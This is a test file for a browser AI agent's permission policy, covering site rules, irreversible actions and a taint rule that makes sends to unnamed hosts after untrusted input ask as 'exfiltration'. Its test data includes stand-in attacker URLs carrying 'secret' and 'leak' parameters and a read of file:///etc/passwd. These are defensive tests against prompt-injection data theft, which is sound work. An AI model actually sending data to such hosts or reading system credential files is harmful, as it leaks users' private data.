import { describe, expect, it } from 'vitest';
import { defaultPermissions, type CallTarget, type Permissions } from '../../lib/contracts/permissions';
import { decide, type PolicyCall, type PolicyState } from '../../lib/policy/decide';

const perms = (p: Partial<Permissions> = {}): Permissions => ({ ...defaultPermissions(), ...p });
const rule = (site: string, levels: Partial<Record<'read' | 'act' | 'send', 'ask' | 'allow' | 'block'>>, subdomains = false) => ({
  site,
  subdomains,
  read: 'ask' as const,
  act: 'ask' as const,
  send: 'ask' as const,
  createdAt: 1,
  ...levels,
});
const state = (s: Partial<PolicyState> = {}): PolicyState => ({
  permissions: perms(),
  tainted: false,
  namedHosts: [],
  grantedSites: new Set(),
  destinations: new Set(['https://api.anthropic.com', 'https://html.duckduckgo.com']),
  ...s,
});
const call = (tool: string, risk: PolicyCall['risk'], ...targets: CallTarget[]): PolicyCall => ({ tool, risk, targets });
const read = (url: string): CallTarget => ({ access: 'read', url });
const act = (url: string, preview?: string): CallTarget => ({ access: 'act', url, ...(preview ? { preview } : {}) });
const send = (url: string): CallTarget => ({ access: 'send', url });
const open = (url: string): CallTarget => ({ access: 'act', url, navigates: true });

describe('decide', () => {
  it('asks to read or act on a site by default, and allows local work without asking', () => {
    expect(decide(call('get_tab_content', 'read_site', read('https://mail.example.com/inbox')), state())).toMatchObject({ kind: 'ask', reason: 'site', canAlways: true, site: { host: 'mail.example.com' } });
    expect(decide(call('execute_script', 'act_on_site', act('https://shop.example.com/', 'x()')), state())).toMatchObject({ kind: 'ask', reason: 'site' });
    expect(decide(call('opfs_write', 'write_local'), state())).toEqual({ kind: 'allow', rule: 'default' });
    expect(decide(call('list_tabs', 'read_local'), state())).toEqual({ kind: 'allow', rule: 'default' });
    expect(decide(call('execute_script', 'run_isolated'), state())).toEqual({ kind: 'allow', rule: 'default' });
  });

  it('lets the site of the tab the user was looking at be read, but not acted on', () => {
    const s = state({ activeSite: 'https://news.example.com' });
    expect(decide(call('get_tab_content', 'read_site', read('https://news.example.com/a')), s)).toEqual({ kind: 'allow', rule: 'active_tab', site: 'https://news.example.com' });
    expect(decide(call('execute_script', 'act_on_site', act('https://news.example.com/a')), s)).toMatchObject({ kind: 'ask' });
    // Another scheme is another site.
    expect(decide(call('get_tab_content', 'read_site', read('http://news.example.com/a')), s)).toMatchObject({ kind: 'ask' });
  });

  it('site rules: allow reading, acting (which includes reading), block with a message; subdomains only when asked', () => {
    const s = state({ permissions: perms({ sites: [rule('https://shop.example.com', { act: 'allow' }), rule('https://example.org', { read: 'allow' }, true), rule('https://bank.example', { read: 'block', act: 'block', send: 'block' })] }) });
    expect(decide(call('get_tab_content', 'read_site', read('https://shop.example.com:8443/x')), s)).toMatchObject({ kind: 'allow', rule: 'site_allow' });
    expect(decide(call('execute_script', 'act_on_site', act('https://shop.example.com/x')), s)).toMatchObject({ kind: 'allow', rule: 'site_allow' });
    expect(decide(call('get_tab_content', 'read_site', read('https://www.shop.example.com/x')), s)).toMatchObject({ kind: 'ask' });
    expect(decide(call('get_tab_content', 'read_site', read('https://docs.example.org/x')), s)).toMatchObject({ kind: 'allow', rule: 'site_allow' });
    expect(decide(call('execute_script', 'act_on_site', act('https://docs.example.org/x')), s)).toMatchObject({ kind: 'ask' });
    const blocked = decide(call('get_tab_content', 'read_site', read('https://bank.example/login')), s);
    expect(blocked).toMatchObject({ kind: 'block', rule: 'site_block', site: 'https://bank.example' });
    expect(blocked.kind === 'block' && blocked.message).toMatch(/user blocked bank\.example.*Do not retry/);
  });

  it('the most specific rule wins: an exact site over a parent covering subdomains', () => {
    const s = state({ permissions: perms({ sites: [rule('https://example.com', { read: 'allow' }, true), rule('https://admin.example.com', { read: 'block' })] }) });
    expect(decide(call('get_tab_content', 'read_site', read('https://admin.example.com/')), s)).toMatchObject({ kind: 'block' });
    expect(decide(call('get_tab_content', 'read_site', read('https://www.example.com/')), s)).toMatchObject({ kind: 'allow' });
  });

  it('"Act without asking" reads and acts without asking, but a block still holds', () => {
    const s = state({ permissions: perms({ mode: 'act', sites: [rule('https://bank.example', { act: 'block' })] }) });
    expect(decide(call('execute_script', 'act_on_site', act('https://shop.example.com/')), s)).toMatchObject({ kind: 'allow', rule: 'mode_act' });
    expect(decide(call('execute_script', 'act_on_site', act('https://bank.example/')), s)).toMatchObject({ kind: 'block' });
  });

  it('irreversible actions always ask, in both modes and whatever the tool rule, never with "Always"', () => {
    for (const mode of ['ask', 'act'] as const) {
      const s = state({ permissions: perms({ mode, tools: { instagram_post: 'allow' } }) });
      expect(decide(call('instagram_post', 'irreversible_external', send('https://graph.facebook.com/v21.0')), s)).toMatchObject({ kind: 'ask', reason: 'irreversible', canAlways: false });
    }
    // A tool that starts sub-agents is decided call by call inside, not at the start.
    expect(decide({ ...call('agent', 'irreversible_external'), spawnsAgent: true }, state())).toMatchObject({ kind: 'allow' });
    // Blocking it is the user's right.
    expect(decide(call('instagram_post', 'irreversible_external'), state({ permissions: perms({ tools: { instagram_post: 'block' } }) }))).toMatchObject({ kind: 'block', rule: 'tool_block' });
  });

  it('sends are free before untrusted text came in; after, only to places the user named or approved', () => {
    const attacker = call('web_fetch', 'send_off_machine', send('https://collect.evil.example/c?d=secret'));
    expect(decide(attacker, state())).toMatchObject({ kind: 'allow', rule: 'default' });
    const tainted = state({ tainted: true, permissions: perms({ mode: 'act', tools: { web_fetch: 'allow' } }) });
    // Even in "Act without asking", even with the tool allowed.
    expect(decide(attacker, tainted)).toMatchObject({ kind: 'ask', reason: 'exfiltration', canAlways: true, target: { url: 'https://collect.evil.example/c?d=secret' } });
    expect(decide(attacker, { ...tainted, namedHosts: ['evil.example'] })).toMatchObject({ kind: 'allow' });
    expect(decide(attacker, { ...tainted, grantedSites: new Set(['https://collect.evil.example']) })).toMatchObject({ kind: 'allow' });
    expect(decide(call('web_search', 'send_off_machine', send('https://html.duckduckgo.com/html/')), tainted)).toMatchObject({ kind: 'allow' });
    // The page's own site, allowed always by the user: same-site sends pass, cross-site ones ask.
    const shopAllowed = state({ tainted: true, permissions: perms({ sites: [rule('https://shop.example.com', { read: 'allow' })] }) });
    expect(decide(call('web_fetch', 'send_off_machine', send('https://shop.example.com/api?x=1')), shopAllowed)).toMatchObject({ kind: 'allow' });
    expect(decide(attacker, shopAllowed)).toMatchObject({ kind: 'ask', reason: 'exfiltration' });
  });

  it('opening a tab at an unnamed address after untrusted text counts as a send', () => {
    const s = state({ tainted: true, permissions: perms({ mode: 'act' }) });
    expect(decide(call('open_tab', 'act_on_site', open('https://evil.example/?leak=1')), s)).toMatchObject({ kind: 'ask', reason: 'exfiltration' });
    expect(decide(call('open_tab', 'act_on_site', open('https://evil.example/?leak=1')), { ...s, tainted: false })).toMatchObject({ kind: 'allow', rule: 'mode_act' });
  });

  it('a user-named site is a destination, but naming it does not let anything act on it', () => {
    const s = state({ tainted: true, namedHosts: ['example.com'] });
    expect(decide(call('open_tab', 'act_on_site', open('https://www.example.com/')), s)).toMatchObject({ kind: 'ask', reason: 'site' });
  });

  it('file: URLs are blocked unless local files are on', () => {
    const target = read('file:///etc/passwd');
    const blocked = decide(call('get_tab_content', 'read_site', target), state());
    expect(blocked).toMatchObject({ kind: 'block', rule: 'local_files' });
    expect(decide(call('open_tab', 'act_on_site', open('file:///etc/passwd')), state({ permissions: perms({ mode: 'act' }) }))).toMatchObject({ kind: 'block' });
    expect(decide(call('get_tab_content', 'read_site', target), state({ permissions: perms({ localFiles: true }) }))).toMatchObject({ kind: 'ask', reason: 'site', canAlways: false });
  });

  it('per-tool overrides: Ask always asks, Allow skips the site question, Block refuses', () => {
    expect(decide(call('opfs_write', 'write_local'), state({ permissions: perms({ tools: { opfs_write: 'ask' } }) }))).toMatchObject({ kind: 'ask', reason: 'tool_rule' });
    expect(decide(call('get_tab_content', 'read_site', read('https://a.example/')), state({ permissions: perms({ tools: { get_tab_content: 'allow' } }) }))).toEqual({ kind: 'allow', rule: 'tool_allow' });
    expect(decide(call('web_fetch', 'send_off_machine', send('https://a.example/')), state({ permissions: perms({ tools: { web_fetch: 'block' } }) }))).toMatchObject({ kind: 'block', rule: 'tool_block' });
    // A tool allowed still meets a blocked site.
    expect(decide(call('get_tab_content', 'read_site', read('https://a.example/')), state({ permissions: perms({ tools: { get_tab_content: 'allow' }, sites: [rule('https://a.example', { read: 'block' })] }) }))).toMatchObject({ kind: 'block' });
  });

  it('deleting workspace files asks in "Ask before acting" only', () => {
    expect(decide({ ...call('opfs_delete', 'write_local'), destructive: true }, state())).toMatchObject({ kind: 'ask', reason: 'destructive' });
    expect(decide({ ...call('opfs_delete', 'write_local'), destructive: true }, state({ permissions: perms({ mode: 'act' }) }))).toMatchObject({ kind: 'allow' });
  });

  it('a URL that names no site (data:, about:blank) needs no site rule', () => {
    expect(decide(call('open_tab', 'act_on_site', open('about:blank')), state())).toEqual({ kind: 'allow', rule: 'default' });
  });
});
